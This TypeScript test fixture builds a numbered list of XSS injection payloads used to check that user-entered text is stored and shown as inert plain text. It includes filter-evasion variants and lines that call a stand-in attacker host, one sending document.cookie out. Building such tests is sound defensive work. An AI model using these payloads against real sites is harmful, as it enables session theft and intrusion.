/**
 * Script injections for every text a user sets and another page shows (issue 19 §5). The API tests
 * prove each one is stored and answered as the plain text it is; the browser journey shows them all
 * and proves none runs. One list for both, so a payload added here is checked in both places.
 *
 * Every payload that would run sets `window.__xss` (through `top`, so that a frame's script reaches
 * the page) to its own number and opens an alert; those that would load something load it from
 * ATTACKER_HOST. Each fits every field it is tried in: one line, no control character, no space
 * at either end (the fields trim), at most XSS_PAYLOAD_MAX_LENGTH characters (sub-account names).
 */

/** The host every payload that fetches something fetches it from: no page may ever ask it. */
export const ATTACKER_HOST = 'attacker.example';

/** The longest payload: sub-account first and last names take 100 characters. */
export const XSS_PAYLOAD_MAX_LENGTH = 100;

/** The marker a payload sets when it runs; the journey reads it back from the page. */
export const XSS_MARKER = '__xss';

/** What payload `n` runs: sets the marker and opens a dialog (no quotes, no spaces). */
const run = (n: number) => `alert(top.${XSS_MARKER}=${n})`;
const entities = (text: string) => [...text].map((char) => `&#${char.charCodeAt(0)};`).join('');
const base64 = (text: string) => Buffer.from(text).toString('base64');
const attacker = `//${ATTACKER_HOST}`;

/** Each family's templates take the script to run (`js`) and give the payload. */
const families: Record<string, ((js: string) => string)[]> = {
  'script tags': [
    (js) => `<script>${js}</script>`,
    (js) => `<SCRIPT>${js}</SCRIPT>`,
    (js) => `<script type="module">${js}</script>`,
    () => `<script src=${attacker}/x.js></script>`,
    (js) => `</script><script>${js}</script>`,
    (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
    (js) => `</title><script>${js}</script>`,
    (js) => `</textarea><script>${js}</script>`,
    (js) => `</style><script>${js}</script>`,
    (js) => `<!--<script>${js}</script>-->`,
    (js) => `<script>${js}//`,
    () => `<script>fetch('${attacker}/?'+document.cookie)</script>`,
  ],
  'event handlers': [
    (js) => `<img src=x onerror=${js}>`,
    (js) => `<img src=x onerror="${js}">`,
    (js) => `<IMG SRC=x OnErRoR=${js}>`,
    (js) => `<img/src=x/onerror=${js}>`,
    (js) => `<img srcset=x onerror=${js}>`,
    (js) => `<svg onload=${js}>`,
    (js) => `<svg/onload=${js}>`,
    (js) => `<body onload=${js}>`,
    (js) => `<body onpageshow=${js}>`,
    (js) => `<frameset onload=${js}>`,
    (js) => `<details open ontoggle=${js}>`,
    (js) => `<input autofocus onfocus=${js}>`,
    (js) => `<select autofocus onfocus=${js}>`,
    (js) => `<textarea autofocus onfocus=${js}>`,
    (js) => `<x contenteditable autofocus onfocus=${js}>`,
    (js) => `<xss id=x tabindex=1 onfocusin=${js}></xss>`,
    (js) => `<video><source onerror=${js}>`,
    (js) => `<audio src=x onerror=${js}>`,
    (js) => `<iframe onload=${js}>`,
    (js) => `<marquee onstart=${js}>`,
    (js) => `<object data=x onerror=${js}>`,
    (js) => `<style onload=${js}></style>`,
    (js) => `<link rel=stylesheet href=x onerror=${js}>`,
    (js) => `<input type=image src=x onerror=${js}>`,
    (js) => `<div onmouseover=${js} style=position:fixed;inset:0>`,
    (js) => `<a onpointerenter=${js} style=display:block;height:99vh>x</a>`,
    (js) => `<a href=# onclick=${js}>x</a>`,
    (js) => `<img src=x onerror=eval(atob('${base64(js)}'))>`,
    (js) => `<div popover id=p onbeforetoggle=${js}>x</div>`,
  ],
  'javascript: URLs': [
    (js) => `javascript:${js}`,
    (js) => `JaVaScRiPt:${js}`,
    (js) => `javascript://%0a${js}`,
    (js) => `javascript:${js}//https://example.com`,
    (js) => `<a href="javascript:${js}">click</a>`,
    (js) => `<a href=javascript&colon;${js}>x</a>`,
    (js) => `<a href="&#106;avascript:${js}">x</a>`,
    (js) => `<a href="java&#x09;script:${js}">x</a>`,
    (js) => `<iframe src="javascript:${js}"></iframe>`,
    (js) => `<embed src="javascript:${js}">`,
    (js) => `<form action="javascript:${js}"><input type=submit>`,
    (js) => `<form><button formaction=javascript:${js}>go</button></form>`,
    (js) => `<math href="javascript:${js}">x</math>`,
    (js) => `<table background=javascript:${js}>`,
    (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
    (js) => `vbscript:${js}`,
  ],
  'links and markdown': [
    (js) => `https://example.com/"onmouseover="${js}`,
    (js) => `https://example.com/<script>${js}</script>`,
    (js) => `https://example.com/?q="><img src=x onerror=${js}>`,
    (js) => `www.example.com/'onfocus='${js}'autofocus='`,
    (js) => `mailto:a@example.com"onclick="${js}`,
    (js) => `[x](javascript:${js})`,
    (js) => `![x](x" onerror="${js})`,
    (js) => `[x](https://example.com "onmouseover=${js}")`,
    (js) => `[x]: javascript:${js}`,
    (js) => `**<img src=x onerror=${js}>**`,
    (js) => `\`<script>${js}</script>\``,
    (js) => `<details><summary>x</summary><img src=x onerror=${js}></details>`,
  ],
  'data: URLs and srcdoc': [
    (js) => `data:text/html,<script>${js}</script>`,
    (js) => `<a href="data:text/html;base64,${base64(`<script>${js}</script>`)}">x</a>`,
    (js) => `<object data="data:text/html;base64,${base64(`<script>${js}</script>`)}">`,
    (js) => `<iframe src="data:text/html,<script>${js}</script>">`,
    (js) => `<iframe srcdoc="<script>${js}</script>">`,
    (js) => `<iframe srcdoc="&lt;img src=x onerror=${js}&gt;">`,
    (js) => `<iframe srcdoc='<svg onload=${js}>'>`,
  ],
  'SVG and MathML': [
    (js) => `<svg><script>${js}</script></svg>`,
    (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
    (js) => `<svg><a xlink:href="javascript:${js}"><text y=20>x</text></a></svg>`,
    (js) => `<svg><set attributeName=onmouseover to=${js}>`,
    (js) => `<svg><foreignObject><img src=x onerror=${js}></foreignObject></svg>`,
    (js) => `<svg><image href=x onerror=${js}>`,
    (js) => `<svg><style><img src=x onerror=${js}></style></svg>`,
    (js) => `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
    (js) => `<math><maction actiontype=statusline xlink:href=javascript:${js}>x</maction></math>`,
    (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  ],
  'attribute breaking': [
    (js) => `" onmouseover="${js}`,
    (js) => `' onfocus='${js}' autofocus='`,
    (js) => `" autofocus onfocus="${js}`,
    (js) => `"><img src=x onerror=${js}>`,
    (js) => `'><svg onload=${js}>`,
    (js) => `\`><svg onload=${js}>`,
    (js) => `"/><svg/onload=${js}>`,
    (js) => `x" style="background:url(javascript:${js})`,
    (js) => `"><script>${js}</script>`,
    (js) => `'><script>${js}</script>`,
  ],
  'template injection': [
    (js) => `{{constructor.constructor('${js}')()}}`,
    (js) => `{{$on.constructor('${js}')()}}`,
    (js) => `\${${js}}`,
    (js) => `#{${js}}`,
    (js) => `<%= ${js} %>`,
    (js) => `{{7*7}}<img src=x onerror=${js}>`,
    (js) => `[[\${${js}}]]`,
    (js) => `{{'a'.constructor.prototype.charAt=[].join;$eval('x=1}}};${js}//');}}`,
  ],
  'encoded variants': [
    (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
    (js) => `%3Cscript%3E${js}%3C%2Fscript%3E`,
    (js) => `%253Cscript%253E${js}%253C%252Fscript%253E`,
    (js) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
    (js) => `&#60;script&#62;${js}&#60;/script&#62;`,
    (js) => `\\x3cimg src=x onerror=${js}\\x3e`,
    (js) => `<img src=x onerror=${entities('alert')}${js.slice('alert'.length)}>`,
    (js) => `<img src=x onerror=\\u0061${js.slice(1)}>`,
    (js) => `<img src=x onerror=eval('\\x61${js.slice(1)}')>`,
    (js) => `＜script＞${js}＜/script＞`,
    (js) => `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  ],
  CSS: [
    (js) => `<div style="width:expression(${js})">`,
    (js) => `<style>*{background:url("javascript:${js}")}</style>`,
    () => `<style>@import "${attacker}/x.css";</style>`,
    () => `<div style="background-image:url(${attacker}/p.png)">x</div>`,
    () => `<style>body{-moz-binding:url(${attacker}/x.xml#x)}</style>`,
    () => `<link rel=stylesheet href=${attacker}/x.css>`,
    () => `<img src=${attacker}/p.png>`,
    () => `<base href=${attacker}/>`,
  ],
  polyglots: [
    (js) => `'"--></style></script><svg onload=${js}>`,
    (js) => `'"\`><\\x3csvg onload=${js}>`,
    (js) => `--!><svg onload=${js}>`,
    (js) => `]]><svg onload=${js}>`,
    (js) => `*/${js}/*`,
    (js) => `jaVasCript:/*-/*\`/*'/*"/**/(${js})//</scRipt/--!><sVg/oNloAd=${js}>`,
    (js) => `<template><img src=x onerror=${js}></template>`,
  ],
};

export interface XssPayload {
  /** 1-based: the value the payload sets `window.__xss` to. */
  n: number;
  family: string;
  payload: string;
}

/** Every payload, numbered in order. */
export const xssCorpus: XssPayload[] = Object.entries(families)
  .flatMap(([family, templates]) => templates.map((template) => ({ family, template })))
  .map(({ family, template }, index) => ({ n: index + 1, family, payload: template(run(index + 1)) }));

export const xssPayloads: string[] = xssCorpus.map((entry) => entry.payload);
